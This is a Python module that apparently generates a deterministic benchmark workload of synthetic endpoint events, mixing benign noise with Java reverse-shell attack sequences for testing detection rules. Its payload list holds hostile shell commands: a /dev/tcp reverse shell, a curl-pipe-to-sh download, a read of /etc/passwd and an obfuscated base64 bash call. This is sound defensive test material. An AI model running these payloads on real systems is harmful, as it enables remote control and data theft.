"""The benchmark's workload: a fleet's endpoint events with a known set of attacks, deterministic per seed.

Events are Elastic Defend-shaped ECS documents (:mod:`shellwatch.samples.ecs_factory`, ~500-600 bytes),
half network and half process, in ``@timestamp`` order at ``rate_per_s`` events per second of event time.
About 98% involve no Java (nginx, sshd, postgres, cron children...). The rest pass the pre-filter:

- ``attacks`` reverse-shell sequences: a Java process (``-jar``) connects to a public address, and 0.1-3 s
  later spawns ``bash -c <payload>``. Each raises exactly two alerts: the sequence rule and the shell rule
  (a unique Java process per attack, so no grouping);
- ``java_connections`` benign Java connections (private and public addresses, no shell follows);
- benign Java process events up to ``java_share`` of all events: JVMs started by systemd, JVMs forking a
  ``java`` or ``git`` child. None of these alert.
"""

from __future__ import annotations

import hashlib
import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any, Literal

import orjson

from shellwatch.samples.ecs_factory import JAVA, connection, execution

Kind = Literal["network", "process"]
SEQUENCE_RULE = "potential-reverse-shell-via-java"
SHELL_RULE = "shell-spawned-by-java"
START_MS = 1_732_406_400_000  # 2024-11-24T00:00:00Z

_NOISE_NET = ["/usr/sbin/nginx", "/usr/sbin/sshd", "/usr/lib/postgresql/15/bin/postgres", "/usr/bin/python3.11"]
_NOISE_PARENTS = ["/usr/sbin/cron", "/usr/sbin/sshd", "/usr/bin/bash", "/usr/lib/systemd/systemd"]
_NOISE_CHILDREN = [
    ("ls", ["/usr/bin/ls", "-la", "/var/log/nginx"]),
    ("cat", ["/usr/bin/cat", "/proc/loadavg"]),
    ("grep", ["/usr/bin/grep", "-c", "ERROR", "/var/log/syslog"]),
    ("logrotate", ["/usr/sbin/logrotate", "/etc/logrotate.conf"]),
    ("curl", ["/usr/bin/curl", "-fsS", "http://127.0.0.1:8080/health"]),
    ("awk", ["/usr/bin/awk", "{print $1}", "/var/log/nginx/access.log"]),
]
_PAYLOADS = [
    "bash -i >& /dev/tcp/{ip}/4444 0>&1",
    "curl -s http://{ip}/x.sh | sh",
    "id; uname -a; cat /etc/passwd",
    "{{echo,YmFzaCAtaQ==}}|{{base64,-d}}|{{bash,-i}}",
]


@dataclass(frozen=True, slots=True)
class Record:
    kind: Kind
    key: bytes  # host.id
    value: bytes  # the ECS JSON document
    ts_ms: int
    attack: int | None = None  # the attack index when this is an attack's exec (the sequence's last event)


@dataclass(frozen=True, slots=True)
class Workload:
    events: int
    hosts: int = 10_000
    attacks: int = 1_000
    java_connections: int = 4_000
    java_share: float = 0.02
    rate_per_s: int = 20_000  # events per second of event time
    seed: int = 7
    host_ids: list[str] = field(init=False, repr=False, compare=False)

    def __post_init__(self) -> None:
        rng = random.Random(self.seed)
        object.__setattr__(self, "host_ids", [f"{rng.getrandbits(128):032x}" for _ in range(self.hosts)])
        if self.events < 10 * (2 * self.attacks + self.java_connections):
            raise ValueError("too few events for the attacks and Java connections requested")


def _public_ip(rng: random.Random) -> str:
    while True:
        first = rng.randrange(11, 223)
        if first not in (100, 127, 169, 172, 192, 198, 203):
            return f"{first}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def _private_ip(rng: random.Random) -> str:
    a, b = rng.randrange(256), rng.randrange(1, 255)
    return rng.choice([f"10.{a}.{a}.{b}", f"172.16.{a}.{b}", f"192.168.{a}.{b}", "127.0.0.1"])


def _trim(doc: dict[str, Any]) -> dict[str, Any]:
    """Down to the ~500-600 bytes of a typical shipped event (the fields the rules read, and some others)."""
    for name in ("agent", "data_stream", "ecs", "source"):
        doc.pop(name, None)
    event = doc["event"]
    for name in ("module", "created", "sequence"):
        event.pop(name, None)
    host = doc["host"]
    host.pop("hostname", None)
    host.pop("architecture", None)
    host["os"] = {"type": host["os"]["type"], "family": "debian"}
    process = doc["process"]
    process.pop("args_count", None)
    process.pop("working_directory", None)
    parent = process.get("parent")
    if parent is not None:
        parent.pop("args_count", None)
    doc["user"] = {"name": doc["user"]["name"]}
    return doc


def alert_ids(host_id: str, exec_event_id: str) -> tuple[str, str]:
    """The (sequence rule, shell rule) alert ids of an exec: sha256 of ``rule.id|host.id|exec event.id``."""
    return tuple(  # type: ignore[return-value]
        hashlib.sha256(f"{rule}|{host_id}|{exec_event_id}".encode()).hexdigest() for rule in (SEQUENCE_RULE, SHELL_RULE)
    )


class Generator:
    """Builds the records of a :class:`Workload`; ``expected`` maps alert id -> (rule id, attack index)."""

    def __init__(self, workload: Workload, *, event_prefix: str = "e", start_ms: int = START_MS) -> None:
        self.workload = workload
        self.prefix = event_prefix
        self.start_ms = start_ms
        self.rng = random.Random(workload.seed + 1)
        self.expected: dict[str, tuple[str, int]] = {}
        self.attack_hosts: dict[int, str] = {}
        self._special = self._plan()

    def ts_of(self, index: int) -> int:
        return self.start_ms + index * 1000 // self.workload.rate_per_s

    def _free(self, special: dict[int, Any], index: int) -> int:
        while index in special:
            index += 1
        return index

    def _plan(self) -> dict[int, tuple[str, Any]]:
        """Positions of the special (Java) events among ``events``: position -> (what, parameters)."""
        w, rng = self.workload, self.rng
        special: dict[int, tuple[str, Any]] = {}
        per_ms = w.rate_per_s / 1000
        room = w.events - int(3100 * per_ms) - 10  # an exec lands at most 3 s (+ collisions) after its connection
        if room <= 0:
            raise ValueError("too few events for 3 s of event time")
        for attack in range(w.attacks):
            start = self._free(special, rng.randrange(room))
            special[start] = ("attack_conn", attack)
            gap_ms = rng.randrange(100, 3000)
            special[self._free(special, start + max(1, int(gap_ms * per_ms)))] = ("attack_exec", attack)
            self.attack_hosts[attack] = rng.choice(w.host_ids)
        for n in range(w.java_connections):
            special[self._free(special, rng.randrange(w.events))] = ("java_conn", n)
        others = max(0, int(w.events * w.java_share) - 2 * w.attacks - w.java_connections)
        for n in range(others):
            index = rng.randrange(w.events)
            if index not in special:
                special[index] = ("java_proc", n)
        return special

    def records(self) -> Iterator[Record]:
        for index in range(self.workload.events):
            yield self.record(index)

    def record(self, index: int, ts_ms: int | None = None) -> Record:
        ts = self.ts_of(index) if ts_ms is None else ts_ms
        special = self._special.get(index)
        if special is None:
            return self._noise(index, ts)
        what, n = special
        if what == "attack_conn":
            return self._attack_connection(n, index, ts)
        if what == "attack_exec":
            return self._attack_exec(n, index, ts)
        if what == "java_conn":
            return self._java_connection(index, ts)
        return self._java_process(index, ts)

    def _doc(self, kind: Kind, host: str, doc: dict[str, Any], ts: int, attack: int | None = None) -> Record:
        return Record(kind, host.encode(), orjson.dumps(_trim(doc)), ts, attack)

    def _noise(self, index: int, ts: int) -> Record:
        rng, host = self.rng, self.rng.choice(self.workload.host_ids)
        event_id = f"{self.prefix}{index}"
        if index % 2 == 0:
            exe = rng.choice(_NOISE_NET)
            doc = connection(
                ts_ms=ts,
                host_id=host,
                pid=rng.randrange(300, 20_000),
                dest_ip=_public_ip(rng) if rng.random() < 0.5 else f"10.20.{rng.randrange(256)}.{rng.randrange(256)}",
                event_id=event_id,
                executable=exe,
                action=rng.choice(["connection_attempted", "connection_accepted"]),
                dest_port=rng.choice([443, 5432, 22, 80, 8080]),
            )
            return self._doc("network", host, doc, ts)
        name, args = rng.choice(_NOISE_CHILDREN)
        parent = rng.choice(_NOISE_PARENTS)
        doc = execution(
            ts_ms=ts,
            host_id=host,
            pid=rng.randrange(300, 60_000),
            parent_pid=rng.randrange(2, 300),
            event_id=event_id,
            name=name,
            args=list(args),
            parent_executable=parent,
            parent_args=[parent, "-f"],
        )
        return self._doc("process", host, doc, ts)

    def _attack_connection(self, attack: int, index: int, ts: int) -> Record:
        host = self.attack_hosts[attack]
        doc = connection(
            ts_ms=ts,
            host_id=host,
            pid=40_000 + attack,
            dest_ip=_public_ip(self.rng),
            event_id=f"{self.prefix}{index}-atk{attack}-conn",
        )
        return self._doc("network", host, doc, ts)

    def _attack_exec(self, attack: int, index: int, ts: int) -> Record:
        host, rng = self.attack_hosts[attack], self.rng
        event_id = f"{self.prefix}{index}-atk{attack}-exec"
        payload = rng.choice(_PAYLOADS).format(ip=_public_ip(rng))
        doc = execution(
            ts_ms=ts,
            host_id=host,
            pid=rng.randrange(300, 20_000),
            parent_pid=40_000 + attack,
            event_id=event_id,
            name="bash",
            args=["/bin/bash", "-c", payload],
            parent_args=[JAVA, "-Xmx512m", "-jar", "/opt/app/app.jar"],
        )
        sequence_id, shell_id = alert_ids(host, event_id)
        self.expected[sequence_id] = (SEQUENCE_RULE, attack)
        self.expected[shell_id] = (SHELL_RULE, attack)
        return self._doc("process", host, doc, ts, attack)

    def _java_connection(self, index: int, ts: int) -> Record:
        rng, host = self.rng, self.rng.choice(self.workload.host_ids)
        doc = connection(
            ts_ms=ts,
            host_id=host,
            pid=rng.randrange(20_000, 30_000),
            dest_ip=_private_ip(rng) if rng.random() < 0.5 else _public_ip(rng),
            event_id=f"{self.prefix}{index}",
            dest_port=rng.choice([443, 5432, 9092, 6379]),
        )
        return self._doc("network", host, doc, ts)

    def _java_process(self, index: int, ts: int) -> Record:
        rng, host = self.rng, self.rng.choice(self.workload.host_ids)
        event_id = f"{self.prefix}{index}"
        if rng.random() < 0.5:  # a JVM started by systemd
            doc = execution(
                ts_ms=ts,
                host_id=host,
                pid=rng.randrange(20_000, 30_000),
                parent_pid=1,
                event_id=event_id,
                name="java",
                args=[JAVA, "-Xmx2g", "-jar", "/opt/app/app.jar"],
                parent_executable="/usr/lib/systemd/systemd",
                parent_args=["/usr/lib/systemd/systemd", "--system"],
            )
        else:  # a JVM forking a non-shell child
            name, args = rng.choice([("git", ["/usr/bin/git", "fetch", "--quiet"]), ("java", [JAVA, "-version"])])
            doc = execution(
                ts_ms=ts,
                host_id=host,
                pid=rng.randrange(300, 20_000),
                parent_pid=rng.randrange(20_000, 30_000),
                event_id=event_id,
                name=name,
                args=args,
                parent_args=[JAVA, "-jar", "/opt/app/app.jar"],
            )
        return self._doc("process", host, doc, ts)
